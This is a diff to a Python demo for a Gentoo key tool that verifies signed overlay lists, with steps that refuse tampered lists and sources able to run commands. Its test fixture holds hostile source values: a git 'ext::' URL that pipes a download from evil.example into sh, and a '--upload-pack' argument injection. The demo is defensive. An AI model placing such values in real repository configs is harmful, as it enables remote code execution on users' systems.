@@ -2,7 +2,9 @@
 one, and the postsync.d hook keeping the verified copy when upstream turns bad.
 
 Self-contained: the scene makes its own infrastructure key, pins it in ``gentoo-infra`` by hand
-(add-seed + import-key) and serves the lists from the demo's loopback server.
+(add-seed + import-key), names it the overlay-list key in its own copy of the demo config
+(``[purposes] overlay-list``; Gentoo's default is ``gentoo/snapshot``) and serves the lists from the
+demo's loopback server.
 """
 
 from __future__ import annotations
@@ -37,6 +39,8 @@ GOOD = demo_list(("guru", "https://github.com/gentoo/guru.git"),
 DANGEROUS = demo_list(("guru", "https://github.com/gentoo/guru.git"),
                       ("helpful", "ext::sh -c curl% -s% https://evil.example/x|sh"),
                       ("handy", "--upload-pack=touch /tmp/pwned"))
+#: The demo's overlay-list key, in the category the scene verifies with.
+OVERLAY_CONFIG = "[purposes]\noverlay-list = gentoo-infra/infra\n[overlays]\ncategory = gentoo-infra\n"
 
 
 def steps(world: DemoWorld) -> list[Step]:
@@ -55,13 +59,19 @@ def steps(world: DemoWorld) -> list[Step]:
     tampered_url = publish("tampered/repositories.xml", tampered, signed=GOOD)
     dangerous_url = publish("dangerous/repositories.xml", DANGEROUS)
     verified = world.state / "overlays" / "repositories.xml"
-
+    config = work / "gkeys-overlays-demo.conf"
     hook_config = work / "gkeys-overlays.conf"
 
+    def write_config() -> None:
+        config.write_text(world.config.read_text() + OVERLAY_CONFIG)
+
     def write_hook_config() -> None:
-        hook_config.write_text(world.config.read_text() + "[overlays]\n"
-                               f"url = {server.url}/upstream/repositories.xml\noutput = {verified}\n")
+        hook_config.write_text(config.read_text() + f"url = {server.url}/upstream/repositories.xml\n"
+                                                    f"output = {verified}\n")
         publish("upstream/repositories.xml", tampered, signed=GOOD)  # upstream turned bad since the last sync
+
+    def overlays(*argv: str) -> list[str]:
+        return ["-c", str(config), "verify-overlays", *argv]
 
     return [
         Step("pin the infrastructure key that signs the overlay list (category gentoo-infra)",
@@ -69,12 +79,12 @@ def steps(world: DemoWorld) -> list[Step]:
                          "-K", infra.fingerprint)),
         Step("import it from a file: accepted because the fingerprint matches",
              world.gkeys("import-key", "-C", "gentoo-infra", "-n", "infra", "-F", str(work / "infra.asc"))),
-        Step("verify the signed overlay list and install it for eselect-repository / layman",
-             world.gkeys("verify-overlays", good_url, "-o", str(verified))),
+        Step("verify the signed overlay list ([purposes] overlay-list names the key) and install it for "
+             "eselect-repository / layman", overlays(good_url, "-o", str(verified)), prepare=write_config),
         Step("REFUSED: a source URL was changed after the list was signed",
-             world.gkeys("verify-overlays", tampered_url, "-o", str(verified)), expect=1),
+             overlays(tampered_url, "-o", str(verified)), expect=1),
         Step("REFUSED: validly signed, but sources would run commands (ext::, --upload-pack=)",
-             world.gkeys("verify-overlays", dangerous_url, "-o", str(verified)), expect=1),
+             overlays(dangerous_url, "-o", str(verified)), expect=1),
         Step("REFUSED by the postsync.d hook (it runs exactly this): upstream tampered, the verified copy stays",
              ["-c", str(hook_config), "verify-overlays", "--install"], expect=1, prepare=write_hook_config),
     ]
